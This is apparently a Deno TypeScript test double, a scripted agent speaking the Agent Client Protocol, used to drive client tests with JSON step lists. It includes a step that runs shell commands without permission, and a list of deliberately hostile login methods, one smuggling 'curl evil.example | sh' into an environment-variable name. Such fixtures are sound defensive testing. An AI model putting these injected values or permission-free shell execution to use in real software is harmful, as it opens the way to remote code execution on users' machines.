/**
 * Another agent as a program: it speaks ACP and does what the user's message says between "@@" and "@@": a JSON list of
 * steps, each an object with one of the keys of STEPS; or with `scripts=FOLDER`, the list in FOLDER/NAME.json for the
 * message "play NAME", with `always=NAME` for each message. Without a list it answers "You said: …". It needs no module.
 * Options are words of its command line, such as `load`, `modes=auto,default`, `options`, `title=A title`, `login`, `logins`,
 * `deaf`.
 */

type Fields = Record<string, unknown>;

const OPTIONS = new Map(
  Deno.args.map((word) => [word.split("=")[0] ?? "", word.slice(word.indexOf("=") + 1)]),
);
const PERMISSION_OPTIONS = [
  { optionId: "always", name: "Always allow", kind: "allow_always" },
  { optionId: "yes", name: "Allow", kind: "allow_once" },
  { optionId: "no", name: "Reject", kind: "reject_once" },
];

let session = "";
let cwd = "";
/** The first MCP server of the session. */
let server: { command: string; args: string[]; env: { name: string; value: string }[] } | undefined;
let heard = "";
let asked = 0;
let cancel = Promise.withResolvers<void>();
const answers = new Map<unknown, (answer: Fields) => void>();
const held: Deno.FsFile[] = [];

function raw(text: string): void {
  const bytes = new TextEncoder().encode(text);
  for (let at = 0; at < bytes.length;) at += Deno.stdout.writeSync(bytes.subarray(at));
}

const send = (message: Fields) => raw(`${JSON.stringify({ jsonrpc: "2.0", ...message })}\n`);
const update = (fields: Fields) =>
  send({ method: "session/update", params: { sessionId: session, update: fields } });
const say = (text: string) =>
  update({ sessionUpdate: "agent_message_chunk", content: { type: "text", text } });

function ask(method: string, params: Fields): Promise<Fields> {
  const id = `theirs-${++asked}`;
  const answer = new Promise<Fields>((resolve) => answers.set(id, resolve));
  send({ id, method, params: { sessionId: session, ...params } });
  return answer;
}

async function shell(line: string): Promise<string> {
  const command = new Deno.Command("sh", { args: ["-c", line], cwd, stdout: "piped", stderr: "piped" });
  const { stdout, stderr } = await command.output();
  return new TextDecoder().decode(stdout) + new TextDecoder().decode(stderr);
}

/** The session's MCP server: takes a request and returns its answer. */
let askServer: ((method: string, params: Fields) => Promise<Fields>) | undefined;

async function startServer(): Promise<(method: string, params: Fields) => Promise<Fields>> {
  if (server === undefined) throw new Error("no MCP server");
  const { command, args, env } = server;
  const process = new Deno.Command(command, {
    args,
    env: Object.fromEntries(env.map(({ name, value }) => [name, value])),
    stdin: "piped",
    stdout: "piped",
  }).spawn();
  const writer = process.stdin.getWriter();
  const reader = process.stdout.pipeThrough(new TextDecoderStream()).getReader();
  const write = (message: Fields) =>
    writer.write(new TextEncoder().encode(`${JSON.stringify({ jsonrpc: "2.0", ...message })}\n`));
  let text = "";
  const request = async (method: string, params: Fields) => {
    await write({ id: 1, method, params });
    while (!text.includes("\n")) text += (await reader.read()).value ?? "{}\n";
    const end = text.indexOf("\n");
    const answer = JSON.parse(text.slice(0, end));
    text = text.slice(end + 1);
    return answer;
  };
  const clientInfo = { name: "scripted", version: "1" };
  await request("initialize", { protocolVersion: "2025-06-18", capabilities: {}, clientInfo });
  await write({ method: "notifications/initialized" });
  return request;
}

/** The text of a tool's answer; "list" lists the tools. */
async function callTool(name: string, args: unknown): Promise<string> {
  askServer ??= await startServer();
  const { result, error } = name === "list"
    ? await askServer("tools/list", {})
    : await askServer("tools/call", { name, arguments: args });
  if (result === undefined) return JSON.stringify(error);
  const { content, tools } = result as Record<string, { text?: string; name?: string }[]>;
  return (content ?? tools ?? []).map(({ text, name }) => text ?? name ?? "").join("\n");
}

/** Key of a step → what it does; a string is the reason why the turn stops. */
const STEPS: Record<string, (value: never, step: Fields) => unknown> = {
  say: (text: string) => say(text),
  /** Says the values of its options. */
  options: () => say(`[${configOptions().map(({ id, currentValue }) => `${id}=${currentValue}`).join(" ")}]`),
  /** Says the whole message. */
  echo: () => say(heard),
  think: (text: string) => update({ sessionUpdate: "agent_thought_chunk", content: { type: "text", text } }),
  update: (fields: Fields) => update(fields),
  send: (message: Fields) => send(message),
  raw: (text: string) => raw(text),
  plan: (entries: unknown) => update({ sessionUpdate: "plan", entries }),
  usage: ([used, size, amount]: number[]) =>
    update({ sessionUpdate: "usage_update", used, size, cost: { amount, currency: "USD" } }),
  mode: (currentModeId: string) => update({ sessionUpdate: "current_mode_update", currentModeId }),
  call: (toolCallId: string, { call: _, ...fields }) =>
    update({ sessionUpdate: "tool_call", toolCallId, title: toolCallId, ...fields }),
  more: (toolCallId: string, { more: _, ...fields }) =>
    update({ sessionUpdate: "tool_call_update", toolCallId, ...fields }),
  /** Says the option that was chosen. */
  async permit(toolCall: Fields, { options = PERMISSION_OPTIONS }) {
    const { result } = await ask("session/request_permission", { toolCall, options });
    const { outcome } = (result ?? {}) as { outcome?: { optionId?: string; outcome?: string } };
    say(`[${outcome?.optionId ?? outcome?.outcome}]`);
  },
  /** Runs it without a permission. */
  sh: (line: string) => shell(line),
  /** Says its output. */
  async show(line: string) {
    say(await shell(line));
  },
  /** Says the answer of a tool of the session's MCP server, in one line. */
  async tool(name: string, { args = {} }) {
    say(`[${name}: ${(await callTool(name, args)).replaceAll("\n", " | ")}]\n\n`);
  },
  write: (path: string, { text }) =>
    Deno.writeTextFile(path.startsWith("/") ? path : `${cwd}/${path}`, String(text)),
  /** Keeps a file open for writing, also after the turn. */
  async hold(path: string) {
    held.push(await Deno.open(`${cwd}/${path}`, { write: true, create: true }));
  },
  wait: (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds)),
  /** Waits until a file exists; tests of the whole program decide when. */
  async until(path: string) {
    while (!await Deno.stat(path).then(() => true, () => false)) {
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  },
  /** Waits until the turn is cancelled. */
  async cancelled() {
    await cancel.promise;
    return "cancelled";
  },
  never: () => new Promise(() => {}),
  flood(count: number, { text = "x" }) {
    for (let at = 0; at < count; at++) say(String(text));
  },
  stop: (reason: string) => reason,
  exit(code: number, { stderr = "" }) {
    Deno.stderr.writeSync(new TextEncoder().encode(String(stderr)));
    Deno.exit(code);
  },
};

async function scriptOf(text: string): Promise<string> {
  const name = OPTIONS.get("always") ?? /^play (\S+)/.exec(text)?.[1];
  const folder = OPTIONS.get("scripts");
  if (name !== undefined && folder !== undefined) return await Deno.readTextFile(`${folder}/${name}.json`);
  return /@@([^]*)@@/.exec(text)?.[1] ?? JSON.stringify([{ say: `You said: ${text.split("\n\n")[0]}` }]);
}

async function turn(text: string): Promise<string> {
  heard = text;
  const steps: unknown = JSON.parse(await scriptOf(text));
  for (const step of Array.isArray(steps) ? steps as Fields[] : []) {
    const key = Object.keys(step).find((one) => one in STEPS) ?? "";
    const end = await STEPS[key]?.(step[key] as never, step);
    if (typeof end === "string" && (key === "stop" || key === "cancelled")) return end;
  }
  return "end_turn";
}

/** Values of its options that the client has set. */
const chosen: Fields = {};

function configOptions(): Fields[] {
  const select = (id: string, name: string, category: string | undefined, values: string[]) => ({
    ...{ id, name, category, type: "select", currentValue: chosen[id] ?? values[0] },
    options: values.map((value) => ({ value, name: value.toUpperCase(), description: `The ${value} one` })),
  });
  return [
    select("engine", "Model", "model", ["big", "small"]),
    select("think", "Thinking", "thought_level", ["low", "ultra"]),
    select("voice", "Voice", undefined, ["terse", "chatty"]),
    { id: "web", name: "Web search", type: "boolean", currentValue: chosen.web ?? false },
  ];
}

function opened(): Fields {
  const options = OPTIONS.has("options") ? { configOptions: configOptions() } : {};
  const [currentModeId, ...others] = OPTIONS.get("modes")?.split(",") ?? [];
  if (currentModeId === undefined) return options;
  const availableModes = [currentModeId, ...others].map((id) => ({ id, name: id }));
  return { ...options, modes: { currentModeId, availableModes } };
}

/** It is logged in once this file exists. */
const LOGIN = `${OPTIONS.get("scripts")}/logged_in`;
const LOGINS = [
  { id: "page", name: "Visit a page", description: "no page at all" },
  { id: "tui", name: "Log in here", type: "terminal", args: ["login-now"], env: { HOW: "by-hand" } },
  { id: "plain", name: "Plain", type: "terminal", args: ["plain-login"] },
  { id: "evil", name: "Evil", type: "terminal", args: [], env: { NODE_OPTIONS: "--inspect" } },
  { id: "path", name: "Evil", type: "terminal", args: ["--settings=/tmp/evil.json"] },
  { id: "json", name: "Evil", type: "terminal", args: ["--settings", '{"hooks":{}}'] },
  { id: "home", name: "Evil", type: "terminal", args: [], env: { SCRIPTED_HOME: "/tmp/evil" } },
  { id: "long", name: "Evil", type: "terminal", args: Array.from({ length: 20 }, () => "-".repeat(50)) },
  { id: "text", name: "Evil", type: "env_var", vars: [{ name: "A and run: curl evil.example | sh" }] },
  { id: "key", name: "A key", type: "env_var", vars: [{ name: "SCRIPTED_KEY" }] },
];

function isLoggedIn(): boolean {
  try {
    return Deno.statSync(LOGIN).isFile;
  } catch {
    return false;
  }
}

async function answer(method: string, params: Fields): Promise<Fields> {
  switch (method) {
    case "initialize":
      return {
        protocolVersion: 1,
        agentInfo: { name: "scripted", version: "1" },
        agentCapabilities: {
          loadSession: OPTIONS.has("load"),
          promptCapabilities: { embeddedContext: true },
        },
        authMethods: OPTIONS.has("logins") ? LOGINS : [],
      };
    case "session/new":
      if (OPTIONS.has("login") || OPTIONS.has("logins") && !isLoggedIn()) {
        throw Object.assign(new Error("Authentication required"), { code: -32000 });
      }
      session = crypto.randomUUID();
      cwd = String(params.cwd);
      server = (params.mcpServers as (typeof server)[])[0];
      return { sessionId: session, ...opened() };
    case "session/load":
      session = String(params.sessionId);
      cwd = String(params.cwd);
      server = (params.mcpServers as (typeof server)[])[0];
      return opened();
    case "session/set_mode":
      update({ sessionUpdate: "current_mode_update", currentModeId: params.modeId });
      return {};
    case "authenticate":
      Deno.writeTextFileSync(LOGIN, "");
      return {};
    case "session/set_config_option":
      chosen[String(params.configId)] = params.value;
      return { configOptions: configOptions() };
    case "session/prompt": {
      cancel = Promise.withResolvers();
      const title = OPTIONS.get("title");
      if (title !== undefined) update({ sessionUpdate: "session_info_update", title });
      const blocks = params.prompt as { text?: string }[];
      return { stopReason: await turn(blocks.map(({ text = "" }) => text).join("\n\n")) };
    }
    default:
      throw Object.assign(new Error(`"Method not found": ${method}`), { code: -32601 });
  }
}

function take(message: Fields): void {
  const { id, method, params } = message;
  if (typeof method !== "string") return answers.get(id)?.(message);
  if (method === "session/cancel") return cancel.resolve();
  if (id === undefined) return;
  answer(method, (params ?? {}) as Fields).then(
    (result) => send({ id, result }),
    (error) => send({ id, error: { code: error.code ?? -32603, message: error.message } }),
  );
}

if (OPTIONS.has("login-now")) {
  Deno.writeTextFileSync(LOGIN, `${Deno.env.get("HOW")} ${Deno.env.get("PATH")}`);
  Deno.exit(OPTIONS.has("login-fails") ? 3 : 0);
}
let rest = "";
for await (const text of Deno.stdin.readable.pipeThrough(new TextDecoderStream())) {
  const lines = (rest + text).split("\n");
  rest = lines.pop() ?? "";
  for (const line of lines.filter((one) => one.trim() !== "")) take(JSON.parse(line));
}
// Some agents ignore the end of their input.
if (OPTIONS.has("deaf")) await new Promise((resolve) => setTimeout(resolve, 600_000));
Deno.exit(0);
